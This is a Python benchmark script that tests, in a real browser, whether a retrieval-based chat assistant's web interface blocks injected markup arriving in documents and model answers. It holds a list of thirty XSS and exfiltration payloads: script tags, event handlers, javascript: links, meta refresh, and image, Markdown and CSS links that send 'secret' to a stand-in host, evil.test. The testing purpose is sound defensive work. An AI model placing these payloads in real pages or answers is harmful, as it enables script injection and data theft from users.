"""Scripts, images, media, styles, forms and links in documents and answers, in a real browser.

    python -m benchmarks.page_payloads [--quick]

Row 12: each payload comes once from a document and once from a model's answer; counted is what ran
and what was requested from another host. Row 13: the same with one wall taken away (our content
policy, our escaping, Gradio's sanitizer), then with one alone, last without any, to show that the
trial can fail. Exit status 1 when anything ran or was requested with at most one wall away. A
content policy alone cannot stop `<meta http-equiv=refresh>`.
"""

from __future__ import annotations

import argparse
import sys
import tempfile
from collections.abc import Collection, Iterator, Sequence
from contextlib import ExitStack, contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from unittest import mock

TOP = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(TOP / "tests"))

from fake_model_server import FakeModelServer, Reply  # noqa: E402
from playwright.sync_api import Browser, TimeoutError  # noqa: E402
from support_server import Screen, chromium, running  # noqa: E402

from assistant import Assistant, load_settings  # noqa: E402

EVIL = "http://evil.test"
RAN = "window.__ran=(window.__ran||[]).concat('{n}')"

_MARKUP = (
    "<script>{ran}</script>",
    "<img src=x onerror=\"{ran}\">",
    "<svg onload=\"{ran}\"></svg>",
    "<img src='{evil}/img?q=secret'>",
    "![picture]({evil}/md?q=secret)",
    "![reference][r{n}]\n\n[r{n}]: {evil}/ref",
    "<video src='{evil}/video' autoplay></video>",
    "<audio src='{evil}/audio' autoplay></audio>",
    "<iframe src='{evil}/frame'></iframe>",
    "<object data='{evil}/object'></object>",
    "<embed src='{evil}/embed'>",
    "<link rel=stylesheet href='{evil}/css'>",
    "<style>@import url('{evil}/import');</style>",
    "<div style=\"background:url('{evil}/background')\">styled</div>",
    "<form action='{evil}/form'><button autofocus onfocus=\"{ran}\">x</button></form>",
    "<meta http-equiv=refresh content='0;url={evil}/meta'>",
    "<base href='{evil}/'>",
    "<picture><source srcset='{evil}/srcset'><img></picture>",
    "<a href=\"javascript:{ran}\" autofocus onfocus=\"{ran}\">link</a>",
    "[click](javascript:{ran})",
    "<details open ontoggle=\"{ran}\">x</details>",
    "<input autofocus onfocus=\"{ran}\">",
    "<math><mi xlink:href='javascript:{ran}'>x</mi></math>",
    "<img src=\"{evil}/dns\" srcset=\"{evil}/set 2x\">",
    "<template><img src=x onerror=\"{ran}\"></template>",
    "$$\\href{{javascript:{ran}}}{{x}}$$",
    "<gradio-file url='{evil}/gradio'></gradio-file>",
    "</div></p><img src='{evil}/broken-out'>",
    "`<img src='{evil}/code'>` <img src='{evil}/after-code'>",
    "<div style='position:fixed;inset:0;z-index:99999;background:white'>cover</div>",
)  # fmt: skip

PAYLOADS = tuple(
    text.format(ran=RAN.format(n=number), evil=EVIL, n=number)
    for number, text in enumerate(_MARKUP)
)
_AT_ONCE = 10
"""Answers in one conversation: a page with all thirty is slow to redraw."""

WALLS = ("policy", "escaping", "sanitizer")


@dataclass(slots=True)
class Found:
    """What happened: how many payloads were on the page, what ran, what was requested.

    ``broken`` are payloads after which the page could not be used: ugly, and no leak.
    """

    shown: int = 0
    ran: list[str] = field(default_factory=list)
    broken: list[int] = field(default_factory=list)
    requested: list[str] = field(default_factory=list)


def trial(
    browser: Browser, walls: Collection[str] = WALLS, numbers: Sequence[int] = range(len(PAYLOADS))
) -> Found:
    """Show payloads from documents and from a model, with only these walls standing."""
    found = Found()
    with tempfile.TemporaryDirectory() as scratch, ExitStack() as stack:
        folder = Path(scratch) / "notes"
        folder.mkdir()
        for number in numbers:
            text = f"The secret is kept by warden{number} {PAYLOADS[number]} in the old tower.\n"
            (folder / f"room{number}.txt").write_text(text, encoding="utf-8")
        server = stack.enter_context(FakeModelServer())
        server.script = _repeat
        values = {
            "documents.paths": [str(folder)], "index.path": str(Path(scratch) / "index"),
            "chat.keep_conversations": False, "answer.min_confidence": 0.0,
        }  # fmt: skip
        model = {"llm.model": "grounded", "llm.base_url": server.base_url}
        for more in ({}, model):
            settings = load_settings(TOP / "config.yaml", {**values, **more})
            with Assistant(settings) as assistant, _only(walls):
                assistant.sync()
                with running(assistant) as service:
                    _show(browser, service.url, found, numbers)
    return found


def _show(browser: Browser, url: str, found: Found, numbers: Sequence[int]) -> None:
    screens: list[Screen] = []

    def fresh() -> Screen:
        """A browser that has shown nothing yet: a page that is covered stays so in its own."""
        context = browser.new_context(viewport={"width": 1280, "height": 800})
        screens.append(Screen(context, url).open())
        return screens[-1]

    screen, asked, before = fresh(), 0, -1
    for number in numbers:
        question = f"What is kept by warden{number}?"
        try:
            screen.ask(question)
        except TimeoutError:  # what was shown before lies over the page
            found.broken.append(before)
            screen, asked = fresh(), 0
            screen.ask(question)
        before, asked = number, asked + 1
        try:
            screen.answered(asked)
            shown = screen.page.locator("#panes").inner_text()
        except TimeoutError:
            found.broken.append(number)
            screen, asked = fresh(), 0
            continue
        found.shown += f"warden{number}" in shown
        screen.page.evaluate(
            "document.querySelectorAll('#evidence details').forEach(each => each.open = true)"
        )
        found.ran += screen.page.evaluate("window.__ran || []")
        if asked == _AT_ONCE:
            screen.page.evaluate("document.querySelector('#new').click()")
            screen.page.locator("#chat .answer").first.wait_for(state="detached")
            asked = 0
    for each in screens:
        each.page.wait_for_timeout(300)
        found.ran += each.page.evaluate("window.__ran || []")
        found.requested += [address for address in each.outside if address.startswith(EVIL)]
        each.page.context.close()


def _repeat(body: Any) -> Reply:
    """A model that repeats the payload of the warden it is asked about."""
    number = int(body["messages"][-1]["content"].rpartition("warden")[2].rstrip("?\n "))
    return Reply(f"It is kept by warden{number} [1].\n\n{PAYLOADS[number]}\n\nSo much [1].")


@contextmanager
def _only(walls: Collection[str]) -> Iterator[None]:
    """Take all other walls away."""
    with ExitStack() as stack:
        if "policy" not in walls:
            for name in ("scripted_policy", "PLAIN_POLICY"):
                value: Any = "" if name.isupper() else lambda page, host: ""
                stack.enter_context(mock.patch(f"assistant.server.guards.{name}", value))
        if "escaping" not in walls:
            for module in ("messages", "evidence"):
                for name in ("escape", "one_line"):
                    stack.enter_context(
                        mock.patch(f"assistant.chat.{module}.{name}", lambda text: text)
                    )
            stack.enter_context(mock.patch("assistant.citing.markup.MarkupStream", _Unchanged))
            stack.enter_context(mock.patch("assistant.citing.stream.MarkupStream", _Unchanged))
        if "sanitizer" not in walls:
            stack.enter_context(_unsanitized())
        yield


class _Unchanged:
    """A model's text as it is, with nothing taken out."""

    def feed(self, piece: str) -> list[Any]:
        from assistant.citing.markers import Text

        return [Text(piece)]

    def finish(self) -> list[Any]:
        return []


@contextmanager
def _unsanitized() -> Iterator[None]:
    """Gradio's own sanitizer off, in the chat and in the Evidence pane."""
    from assistant.chat.page import ChatPage

    build = ChatPage._build

    def built(page: ChatPage) -> Any:
        blocks = build(page)
        for block in blocks.blocks.values():
            if hasattr(block, "sanitize_html"):
                block.sanitize_html = False
        return blocks

    with mock.patch.object(ChatPage, "_build", built):
        yield


def main() -> None:
    """Print a line for each trial; exit status 1 when a wall did not hold."""
    parser = argparse.ArgumentParser(description=(__doc__ or "").splitlines()[0])
    parser.add_argument("--quick", action="store_true", help="only the trials that must hold")
    options = parser.parse_args()
    bad = 0
    with chromium() as browser:
        trials = [("as served", WALLS)]
        trials += [(f"without {away}", tuple(w for w in WALLS if w != away)) for away in WALLS]
        trials += [(f"{wall} alone", (wall,)) for wall in WALLS] + [("nothing", ())]
        for name, walls in trials[: 1 + len(WALLS)] if options.quick else trials:
            found = trial(browser, walls)
            print(
                f"{name:<20} {found.shown} shown, {len(set(found.ran))} ran, "
                f"{len(set(found.requested))} requested, {len(found.broken)} broke the page",
                flush=True,
            )
            for address in sorted(set(found.requested)):
                print(f"    {address}")
            if len(walls) >= len(WALLS) - 1:
                bad += len(found.ran) + len(found.requested) + (found.shown != 2 * len(PAYLOADS))
    print(f"0 of {2 * len(PAYLOADS)}" if not bad else f"{bad} of {2 * len(PAYLOADS)}", "harmful")
    sys.exit(1 if bad else 0)


if __name__ == "__main__":
    main()
